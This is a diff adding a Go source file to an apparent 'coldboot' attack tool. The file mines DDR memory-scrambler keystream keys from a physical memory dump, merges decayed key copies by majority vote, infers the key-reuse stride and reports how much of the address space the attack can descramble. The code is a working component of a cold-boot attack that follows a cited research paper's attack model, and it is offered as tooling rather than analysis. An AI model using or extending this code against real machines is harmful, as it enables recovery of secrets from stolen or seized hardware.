@@ -1,0 +1,215 @@
+package core
+
+import (
+	"fmt"
+	"sort"
+
+	"coldboot/internal/bitutil"
+)
+
+// MinedKey is one distinct scrambler keystream value recovered from a dump.
+type MinedKey struct {
+	Key       []byte // 64 bytes; majority-voted across all sightings
+	Count     int    // number of blocks that exposed this key
+	Positions []int  // block indices of the sightings
+}
+
+// MineOptions tunes the key miner.
+type MineOptions struct {
+	// Tolerance is the litmus bit-flip budget per block (default
+	// DefaultLitmusTolerance).
+	Tolerance int
+	// MergeDistance is the maximum hamming distance at which two mined
+	// blocks are treated as decayed copies of the same key (default 16;
+	// distinct scrambler keys differ in ~256 bits, so even generous merge
+	// radii cannot conflate them).
+	MergeDistance int
+	// MinCount drops keys seen fewer than this many times; the paper notes
+	// candidates "that occur more frequently are likely keys" (default 1,
+	// i.e. keep everything — the AES stage filters false positives anyway).
+	MinCount int
+	// MaxBytes limits mining to the first MaxBytes of the dump (0 = all).
+	// The paper mined every key from under 16 MB of a loaded system.
+	MaxBytes int
+}
+
+func (o MineOptions) withDefaults() MineOptions {
+	if o.Tolerance == 0 {
+		o.Tolerance = DefaultLitmusTolerance
+	}
+	if o.MergeDistance == 0 {
+		o.MergeDistance = 16
+	}
+	if o.MinCount == 0 {
+		o.MinCount = 1
+	}
+	return o
+}
+
+// MineResult holds the miner's output.
+type MineResult struct {
+	Keys          []MinedKey // sorted by Count descending
+	BlocksScanned int
+	BlocksPassed  int // blocks that passed the litmus test
+}
+
+// MineKeys scans a scrambled memory dump for blocks that pass the
+// scrambler-key litmus test — zero-filled memory exposes raw keystream —
+// and aggregates the sightings into distinct keys. Repeated sightings of
+// the same (possibly decayed) key are merged by bitwise majority vote,
+// which is the paper's "filter out modest bit flips with minimal effort".
+func MineKeys(dump []byte, opt MineOptions) (*MineResult, error) {
+	if len(dump)%BlockBytes != 0 {
+		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
+	}
+	opt = opt.withDefaults()
+	limit := len(dump)
+	if opt.MaxBytes > 0 && opt.MaxBytes < limit {
+		limit = opt.MaxBytes &^ (BlockBytes - 1)
+	}
+
+	res := &MineResult{}
+	// Pass 1: exact grouping of litmus-passing blocks.
+	exact := make(map[string][]int)
+	for off := 0; off < limit; off += BlockBytes {
+		res.BlocksScanned++
+		block := dump[off : off+BlockBytes]
+		if !PassesKeyLitmus(block, opt.Tolerance) {
+			continue
+		}
+		res.BlocksPassed++
+		exact[string(block)] = append(exact[string(block)], off/BlockBytes)
+	}
+
+	// Pass 2: merge near-duplicate groups (decayed copies) into canonical
+	// keys, largest groups first so canonicals are the least-decayed
+	// representatives.
+	type group struct {
+		rep       []byte
+		positions []int
+	}
+	groups := make([]group, 0, len(exact))
+	for k, pos := range exact {
+		groups = append(groups, group{rep: []byte(k), positions: pos})
+	}
+	sort.Slice(groups, func(i, j int) bool {
+		if len(groups[i].positions) != len(groups[j].positions) {
+			return len(groups[i].positions) > len(groups[j].positions)
+		}
+		return string(groups[i].rep) < string(groups[j].rep)
+	})
+
+	type canonical struct {
+		votes     [BlockBytes * 8]int // per-bit one-votes
+		total     int
+		positions []int
+		rep       []byte
+	}
+	var canon []*canonical
+	for _, g := range groups {
+		var target *canonical
+		for _, c := range canon {
+			if bitutil.NearEqual(c.rep, g.rep, opt.MergeDistance) {
+				target = c
+				break
+			}
+		}
+		if target == nil {
+			target = &canonical{rep: append([]byte{}, g.rep...)}
+			canon = append(canon, target)
+		}
+		n := len(g.positions)
+		for bit := 0; bit < BlockBytes*8; bit++ {
+			if g.rep[bit/8]&(1<<uint(bit%8)) != 0 {
+				target.votes[bit] += n
+			}
+		}
+		target.total += n
+		target.positions = append(target.positions, g.positions...)
+	}
+
+	for _, c := range canon {
+		if c.total < opt.MinCount {
+			continue
+		}
+		key := make([]byte, BlockBytes)
+		for bit := 0; bit < BlockBytes*8; bit++ {
+			if 2*c.votes[bit] > c.total {
+				key[bit/8] |= 1 << uint(bit%8)
+			}
+		}
+		sort.Ints(c.positions)
+		res.Keys = append(res.Keys, MinedKey{Key: key, Count: c.total, Positions: c.positions})
+	}
+	sort.Slice(res.Keys, func(i, j int) bool {
+		if res.Keys[i].Count != res.Keys[j].Count {
+			return res.Keys[i].Count > res.Keys[j].Count
+		}
+		return string(res.Keys[i].Key) < string(res.Keys[j].Key)
+	})
+	return res, nil
+}
+
+// InferStride estimates the key-reuse period, in blocks, from the positions
+// of repeated keys: sightings of the same key lie a multiple of the key
+// pool size apart (4096 blocks per channel on Skylake; twice that in a
+// dual-channel interleaved dump). Returns 0 if no key repeats.
+//
+// This is how an attacker who "has no knowledge of which memory blocks
+// share the same scrambler key" (the paper's attack model) discovers the
+// sharing structure anyway: the mined keys themselves reveal it.
+func (r *MineResult) InferStride() int {
+	g := 0
+	for _, k := range r.Keys {
+		for i := 1; i < len(k.Positions); i++ {
+			d := k.Positions[i] - k.Positions[0]
+			g = gcd(g, d)
+		}
+	}
+	return g
+}
+
+// KeysByResidue indexes the mined keys by block-position residue modulo the
+// stride, producing the per-address-class key table the fast attack path
+// uses. Keys sighted at multiple residues (possible under heavy decay
+// merging) are listed under each.
+func (r *MineResult) KeysByResidue(stride int) map[int][]MinedKey {
+	if stride <= 0 {
+		return nil
+	}
+	out := make(map[int][]MinedKey)
+	for _, k := range r.Keys {
+		seen := make(map[int]bool)
+		for _, p := range k.Positions {
+			res := p % stride
+			if !seen[res] {
+				seen[res] = true
+				out[res] = append(out[res], k)
+			}
+		}
+	}
+	return out
+}
+
+// Coverage reports the fraction of residue classes (out of stride) for
+// which at least one key was mined — the fraction of the address space the
+// attack can descramble.
+func (r *MineResult) Coverage(stride int) float64 {
+	if stride <= 0 {
+		return 0
+	}
+	return float64(len(r.KeysByResidue(stride))) / float64(stride)
+}
+
+func gcd(a, b int) int {
+	if a < 0 {
+		a = -a
+	}
+	if b < 0 {
+		b = -b
+	}
+	for b != 0 {
+		a, b = b, a%b
+	}
+	return a
+}
